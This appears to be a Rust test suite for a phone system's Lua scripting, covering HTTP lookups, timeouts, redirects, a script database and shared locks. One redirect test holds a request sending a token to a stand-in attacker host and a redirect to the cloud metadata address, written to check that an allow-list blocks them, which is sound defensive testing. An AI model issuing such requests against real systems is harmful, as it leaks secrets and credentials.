//! What scripts reach beyond their call: other programs, their database, what all calls share.

use std::time::Duration;

use pbx::FetchError;
use tests::{Plan, World};

/// An office whose scripts may reach one program.
fn office(script: &str) -> World {
    let mut world = World::new(Plan {
        script: script.to_owned(),
        prompts: ["en/hello", "music/evening"].map(str::to_owned).to_vec(),
        http_allow: ["https://crm.test/", "https://*.lists.test/"].map(str::to_owned).to_vec(),
        ..Plan::default()
    });
    world.phone("alice", "101");
    world.phone("bob", "102");
    world.register_all();
    world
}

#[test]
fn a_script_asks_another_program_while_the_caller_hears_music() {
    let mut world = office(
        "
route('1XX', function(call)
  call:queued { music = 'music/evening' }
  local answer = http.get('https://crm.test/who', { query = { n = call.from.user } })
  if answer:json().blocked then return call:reject(603, answer:json().why) end
end)",
    );
    world.outside.answer(
        "GET https://crm.test/who?n=101",
        800,
        200,
        r#"{ "blocked": true, "why": "Not you" }"#,
    );
    world.check(
        "
           0  alice -> INVITE 102
           0  plays music/evening
           0  alice <- 182
           0  asks GET https://crm.test/who?n=101
         500  alice hears music/evening
         800  alice <- 603 Not you
         800  record 101 102 refused 603
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn no_answer_in_time_is_a_timeout_and_the_script_goes_on() {
    let mut world = office(
        "
route('5', function(call)
  local answer, why = http.get('https://crm.test/slow', { timeout = 1.5 })
  call:reject(480, why)
end)",
    );
    world.check(
        "
           0  alice -> INVITE 5
           0  asks GET https://crm.test/slow
        1500  gives up GET https://crm.test/slow
        1500  alice <- 480 timeout
        1500  record 101 5 refused 480
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn when_the_caller_hangs_up_the_request_is_given_up_and_its_late_answer_dropped() {
    let mut world = office(
        "
route('5', function(call)
  call:answer()
  http.get('https://crm.test/slow')
  call:play('hello')
end)",
    );
    world.outside.answer("GET https://crm.test/slow", 5_000, 200, "");
    world.check(
        "
           0  alice -> INVITE 5
           0  alice <- 200
           0  asks GET https://crm.test/slow
        1000  alice -> BYE
        1000  gives up GET https://crm.test/slow
        1000  record 101 5 answered 1000 ms
        6000  end
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn several_programs_are_asked_at_once_and_the_loser_of_a_race_is_given_up() {
    let mut world = office(
        "
route('5', function(call)
  local first = race {
    function() return http.get('https://a.lists.test/x').body end,
    function() return http.get('https://b.lists.test/x').body end,
  }
  call:reject(480, tostring(first))
end)",
    );
    world.outside.answer("GET https://a.lists.test/x", 900, 200, "a");
    world.outside.answer("GET https://b.lists.test/x", 300, 200, "b");
    world.act("alice", "INVITE 5");
    world.run_for(Duration::from_secs(2));
    let log = world.log.join("\n");
    for line in [
        "0 asks GET https://a.lists.test/x if public",
        "0 asks GET https://b.lists.test/x if public",
        "300 gives up GET https://a.lists.test/x",
        "300 record 101 5 refused 480",
    ] {
        assert!(log.contains(line), "no {line} in\n{log}");
    }
    world.assert_all_is_quiet();
}

#[test]
fn a_redirect_is_followed_only_to_what_is_allowed() {
    let mut world = office(
        "
route('5', function(call)
  log.info(http.get('https://crm.test/here').body)
  log.info(select(2, http.get('https://crm.test/away')))
  log.info(select(2, http.get('https://evil.test/?token=secret')))
  log.info(select(2, http.get('https://crm.test/refused')))
  call:busy()
end)",
    );
    world.outside.redirect("GET https://crm.test/here", "/there");
    world.outside.answer("GET https://crm.test/there", 0, 200, "found");
    world.outside.redirect("GET https://crm.test/away", "http://169.254.169.254/latest");
    world.outside.fail("GET https://crm.test/refused", FetchError::Refused);
    world.check(
        "
           0  alice -> INVITE 5
           0  asks GET https://crm.test/here
           0  asks GET https://crm.test/there
           0  asks GET https://crm.test/away
           0  asks GET https://crm.test/refused
           0  alice <- 486
           0  record 101 5 refused 486
    ",
    );
    let add = |host: &str| format!("add \"{host}/\" to `allow` in [http] of cordboard.toml");
    let metadata = format!("https://crm.test redirects there; {}", add("http://169.254.169.254"));
    let evil = add("https://evil.test");
    assert_eq!(
        world.script_lines,
        [
            "info 3: found".to_owned(),
            format!("warn 4: http: not allowed: {metadata}"),
            format!("info 4: not allowed {metadata}"),
            format!("warn 5: http: not allowed: {evil}"),
            format!("info 5: not allowed {evil}"),
            "info 6: refused".to_owned(),
        ]
    );
    world.assert_all_is_quiet();
}

#[test]
fn a_script_keeps_rows_in_its_own_database() {
    let mut world = office(
        "
route('7', function(call)
  db.execute('CREATE TABLE IF NOT EXISTS seen (who TEXT, at INTEGER)')
  db.execute('INSERT INTO seen VALUES (?, ?)', call.from.user, 7)
  local rows = db.query('SELECT who, count(*) AS n FROM seen GROUP BY who ORDER BY who')
  call:reject(480, rows[#rows].who .. ' ' .. rows[#rows].n)
end)
route('8', function(call) db.query('SELECT x') end)",
    );
    world.check(
        "
           0  alice -> INVITE 7
           0  alice <- 480 101 1
           0  record 101 7 refused 480
         100  alice -> INVITE 7
         100  alice <- 480 101 2
         100  record 101 7 refused 480
         200  alice -> INVITE 8
         200  alice <- 500
         200  record 101 8 refused 500
    ",
    );
    assert_eq!(world.failures, ["scripts/main.lua:8: db.query: no such column: x"]);
    world.assert_all_is_quiet();
}

#[test]
fn a_slow_query_is_named_with_its_line_and_never_with_its_values() {
    let mut world = office(
        "
route('7', function(call)
  db.query('SELECT ?  AS x,\\n 1 AS y', 'a secret')
  call:busy()
end)",
    );
    world.outside.query_takes = Duration::from_millis(100);
    world.check(
        "
           0  alice -> INVITE 7
         100  alice <- 486
         100  record 101 7 refused 486
    ",
    );
    assert_eq!(world.script_lines, ["warn 3: db: slow query, 100 ms: SELECT ? AS x, 1 AS y"]);
    world.assert_all_is_quiet();
}

#[test]
fn a_database_that_does_not_answer_is_an_error_after_ten_seconds() {
    let mut world = office("route('7', function(call) db.query('SELECT 1') end)");
    world.outside.database_hangs = true;
    world.check(
        "
           0  alice -> INVITE 7
       10000  gives up a query
       10000  alice <- 500
       10000  record 101 7 refused 500
    ",
    );
    assert_eq!(world.failures, ["scripts/main.lua:1: db.query: the database does not answer"]);
    world.assert_all_is_quiet();
}

const LOCKS: &str = "
route('5', function(call)
  local lock <close> = shared.lock('door', { timeout = 3 })
  if not lock then return call:reject(480, 'taken') end
  call:sleep(2)
  call:reject(480, 'done')
end)
route('6', function(call)
  call:answer()
  shared.lock('door')
  call:sleep(60)
end)";

#[test]
fn a_lock_is_held_by_one_and_handed_on_in_order() {
    let mut world = office(LOCKS);
    world.check(
        "
           0  alice -> INVITE 5
         500  bob   -> INVITE 5
        2000  alice <- 480 done
        2000  record 101 5 refused 480
        2100  alice -> INVITE 5
        4000  bob   <- 480 done
        4000  record 102 5 refused 480
        6000  alice <- 480 done
        6000  record 101 5 refused 480
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn a_lock_is_free_when_its_caller_hangs_up() {
    let mut world = office(LOCKS);
    world.check(
        "
           0  alice -> INVITE 6
           0  alice <- 200
         500  bob   -> INVITE 5
        1000  alice -> BYE
        1000  record 101 6 answered 1000 ms
        3000  bob   <- 480 done
        3000  record 102 5 refused 480
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn two_calls_that_each_wait_for_the_other_go_on_when_the_time_is_over() {
    let mut world = office(
        "
local function take(call, one, other)
  local a <close> = shared.lock(one)
  call:sleep(1)
  local b <close> = shared.lock(other, { timeout = 2 })
  call:reject(480, b and 'both' or 'one')
end
route('5', function(call) take(call, 'a', 'b') end)
route('6', function(call) take(call, 'b', 'a') end)",
    );
    world.check(
        "
           0  alice -> INVITE 5
         100  bob   -> INVITE 6
        3000  alice <- 480 one
        3000  record 101 5 refused 480
        3000  bob   <- 480 both
        3000  record 102 6 refused 480
    ",
    );
    world.assert_all_is_quiet();
}

#[test]
fn what_calls_share_outlives_a_reload() {
    let script = "route('5', function(call) call:reject(480, tostring(shared.add('n'))) end)";
    let mut world = office(script);
    world.check(
        "
           0  alice -> INVITE 5
           0  alice <- 480 1
           0  record 101 5 refused 480
    ",
    );
    world.reload(script);
    world.act("alice", "INVITE 5");
    world.run_for(Duration::from_secs(1));
    assert!(world.log.iter().any(|line| line.ends_with("alice <- 480 2")), "{:?}", world.log);
}
